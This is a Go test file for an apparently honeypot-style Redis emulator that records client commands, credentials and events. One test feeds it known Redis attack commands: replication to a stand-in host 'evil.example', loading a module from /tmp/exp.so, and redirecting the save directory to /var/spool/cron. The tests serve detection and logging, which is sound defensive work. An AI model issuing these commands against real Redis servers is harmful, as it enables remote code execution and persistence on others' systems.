package redis_test

import (
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/providers/decky/services/redis"
	"github.com/decnet/decnet/providers/decky/servicetest"
	"github.com/decnet/decnet/schema/event"
)

// ask sends input and returns what came until QUIT's end.
func ask(t *testing.T, s *servicetest.Server, input string) string {
	t.Helper()
	c := s.Dial()
	if _, err := io.WriteString(c, input); err != nil {
		t.Fatal(err)
	}
	if err := c.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	answer, err := io.ReadAll(c)
	if err != nil {
		t.Fatalf("%q: %v after %q", input, err, answer)
	}
	return string(answer)
}

func array(words ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(words))
	for _, w := range words {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(w), w)
	}
	return b.String()
}

func TestWhatIsWrittenIsReadAfterARestart(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	ask(t, s, array("SET", "a\x00\r\n", "b\xff")+"RPUSH l 1 2 3\r\nHSET h f v g w\r\nSADD s x y\r\nZADD z 1.5 m\r\nSELECT 3\r\nSET t v EX 1000\r\n")
	for range 2 {
		got := ask(t, s, array("GET", "a\x00\r\n")+"LRANGE l 0 -1\r\nHGETALL h\r\nSMEMBERS s\r\nZSCORE z m\r\nSELECT 3\r\nGET t\r\nTTL t\r\nDBSIZE\r\n")
		want := "$2\r\nb\xff\r\n" + array("1", "2", "3") + array("f", "v", "g", "w") + array("x", "y") + "$3\r\n1.5\r\n+OK\r\n$1\r\nv\r\n:1000\r\n:1\r\n"
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatal(diff)
		}
		s.Restart()
	}
}

func TestEveryCommandIsRecorded(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	ask(t, s, "SET k \"v 1\"\r\nSLAVEOF evil.example 6379\r\nMODULE LOAD /tmp/exp.so\r\nFOO\r\nCONFIG SET dir /var/spool/cron\r\n")
	s.WaitClosed(t)
	var got []event.Query
	for _, q := range servicetest.Of[*event.Query](s) {
		got = append(got, event.Query{Verb: q.Verb, Statement: q.Statement, Target: q.Target, Error: q.Error})
	}
	want := []event.Query{
		{Verb: "SET", Statement: `SET k "v 1"`},
		{Verb: "SLAVEOF", Statement: "SLAVEOF evil.example 6379", Target: "evil.example:6379"},
		{Verb: "MODULE", Statement: "MODULE LOAD /tmp/exp.so", Target: "/tmp/exp.so", Error: true},
		{Verb: "FOO", Statement: "FOO", Error: true},
		{Verb: "CONFIG", Statement: "CONFIG SET dir /var/spool/cron", Error: true},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if q := servicetest.Of[*event.Query](s)[0]; q.Reply != "+OK\r\n" || len(q.Args) != 2 || q.Args[1] != "v 1" {
		t.Errorf("record %+v", q)
	}
}

func TestPasswordIsAskedForAndRecorded(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{Arguments: `{"requirepass":"s3cret","users":{"app":"pw"}}`})
	got := ask(t, s, "PING\r\nAUTH wrong\r\nAUTH app wrong\r\nHELLO 3\r\nFOO\r\nGET\r\nAUTH app pw\r\nACL WHOAMI\r\nAUTH s3cret\r\nACL WHOAMI\r\nQUIT\r\n")
	want := "-NOAUTH Authentication required.\r\n" + strings.Repeat("-WRONGPASS invalid username-password pair or user is disabled.\r\n", 2) +
		"-NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO <proto> AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time\r\n" +
		"-ERR unknown command 'FOO', with args beginning with: \r\n-ERR wrong number of arguments for 'get' command\r\n" +
		"+OK\r\n$3\r\napp\r\n+OK\r\n$7\r\ndefault\r\n+OK\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	var tried []string
	for _, a := range servicetest.Of[*event.AuthAttempt](s) {
		tried = append(tried, fmt.Sprintf("%s:%s %v %s", a.Username, a.Secret, a.Success, a.SecretKind))
	}
	if diff := cmp.Diff([]string{"default:wrong false plaintext", "app:wrong false plaintext", "app:pw true plaintext", "default:s3cret true plaintext"}, tried); diff != "" {
		t.Error(diff)
	}
	for _, long := range []string{"*11\r\n", "*1\r\n$16385\r\n"} {
		if got := ask(t, s, long); !strings.HasPrefix(got, "-ERR Protocol error: unauthenticated ") {
			t.Errorf("%q before a login: %q", long, got)
		}
	}
}

func TestVersionDecidesTexts(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{Arguments: `{"version":"5.0.7"}`})
	got := ask(t, s, "FOO a b\r\nCONFIG SET dir /tmp\r\nCONFIG GET dir\r\nMODULE LOAD /x.so\r\nCONFIG GET\r\n")
	want := "-ERR unknown command `FOO`, with args beginning with: `a`, `b`, \r\n+OK\r\n" + array("dir", "/tmp") +
		"-ERR Error loading the extension. Please check the server logs.\r\n-ERR wrong number of arguments for 'config' command\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if info := ask(t, s, "INFO server\r\n"); !strings.Contains(info, "redis_version:5.0.7\r\n") {
		t.Errorf("INFO %q", info)
	}
	for _, bad := range []string{`{"version":"seven"}`, `{"requirepass":"a\nb"}`, `{"colour":"red"}`} {
		if redis.New().Check([]byte(bad)) == nil {
			t.Errorf("%s is accepted", bad)
		}
	}
}

func TestInfoAgreesWithTheHost(t *testing.T) {
	now := servicetest.Host().Boot.Add(100 * time.Hour)
	s := servicetest.Start(t, redis.New(), servicetest.Options{Now: func() time.Time { return now }})
	info := ask(t, s, "INFO\r\n")
	for _, line := range []string{"redis_version:7.0.15", "os:Linux 6.1.0-28-amd64 x86_64", "uptime_in_days:4", "tcp_port:6379", "config_file:/etc/redis/redis.conf", "# Keyspace"} {
		if !strings.Contains(info, line+"\r\n") {
			t.Errorf("INFO lacks %q", line)
		}
	}
	s.Restart()
	line := func(info, name string) string {
		_, rest, _ := strings.Cut(info, "\r\n"+name+":")
		value, _, _ := strings.Cut(rest, "\r\n")
		return value
	}
	again := ask(t, s, "INFO\r\n")
	for _, name := range []string{"run_id", "process_id", "uptime_in_seconds", "master_replid"} {
		if a, b := line(info, name), line(again, name); a == "" || a != b {
			t.Errorf("%s was %q, is %q", name, a, b)
		}
	}
	other := servicetest.Host()
	other.Key = []byte("another")
	if id := line(ask(t, servicetest.Start(t, redis.New(), servicetest.Options{Host: other}), "INFO\r\n"), "run_id"); id == line(info, "run_id") || len(id) != 40 {
		t.Errorf("two hosts share the run id %s", id)
	}
}

func TestSubscribersAndMonitorsHearOthers(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	subscriber, monitor := s.Dial(), s.Dial()
	for c, line := range map[io.Writer]string{subscriber: "SUBSCRIBE news\r\n", monitor: "MONITOR\r\n"} {
		if _, err := io.WriteString(c, line); err != nil {
			t.Fatal(err)
		}
	}
	expect := func(r io.Reader, want string) {
		t.Helper()
		got := make([]byte, len(want))
		if _, err := io.ReadFull(r, got); err != nil || string(got) != want {
			t.Fatalf("heard %q, %v; want %q", got, err, want)
		}
	}
	expect(subscriber, "*3\r\n$9\r\nsubscribe\r\n$4\r\nnews\r\n:1\r\n")
	expect(monitor, "+OK\r\n")
	if got := ask(t, s, "PUBLISH news hi\r\n"); got != ":1\r\n" {
		t.Errorf("PUBLISH reached %q", got)
	}
	expect(subscriber, array("message", "news", "hi"))
	line := make([]byte, 200)
	n, err := monitor.Read(line)
	if err != nil || !strings.HasSuffix(string(line[:n]), "] \"PUBLISH\" \"news\" \"hi\"\r\n") {
		t.Errorf("monitor heard %q, %v", line[:n], err)
	}
}

func TestKeyspaceIsBounded(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	var input strings.Builder
	for i := range 12 {
		input.WriteString(array("SET", fmt.Sprint("k", i), strings.Repeat("x", 1<<20)))
	}
	got := ask(t, s, input.String())
	if ok, oom := strings.Count(got, "+OK"), strings.Count(got, "-OOM"); ok == 0 || oom == 0 || ok+oom != 12 {
		t.Errorf("%d stored, %d refused", ok, oom)
	}
	if got := ask(t, s, array(append([]string{"RPUSH", "l"}, make([]string, 9000)...)...)); !strings.HasPrefix(got, "-OOM") {
		t.Errorf("9000 elements: %q", got)
	}
}

func TestClientsThatDoNotReadAreDropped(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	ask(t, s, array("SET", "k", strings.Repeat("x", 3<<20)))
	for range 16 {
		if _, err := io.WriteString(s.Dial(), "GET k\r\nGET k\r\n"); err != nil {
			t.Fatal(err)
		}
	}
	closed := s.WaitFor(t, func(e *event.Event) bool {
		c, ok := e.Body.(*event.ConnectionClosed)
		return ok && strings.Contains(c.Detail, "nobody reads")
	})
	if closed == nil {
		t.Fatal("nobody was dropped")
	}
	if got := ask(t, s, "PING\r\n"); got != "+PONG\r\n" {
		t.Errorf("others hear %q", got)
	}
}

func TestHTTPIsDropped(t *testing.T) {
	s := servicetest.Start(t, redis.New(), servicetest.Options{})
	if got := ask(t, s, "POST / HTTP/1.1\r\nContent-Length: 0\r\n\r\n"); got != "" {
		t.Errorf("answered %q", got)
	}
	if q := servicetest.Of[*event.Query](s); len(q) != 1 || q[0].Verb != "POST" {
		t.Errorf("recorded %v", q)
	}
}

func TestREADMENamesEveryArgument(t *testing.T) {
	readme, err := os.ReadFile("README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range redis.New().Arguments() {
		if !strings.Contains(string(readme), "| `"+a.Name+"` |") {
			t.Errorf("README.md lacks argument %s", a.Name)
		}
	}
}
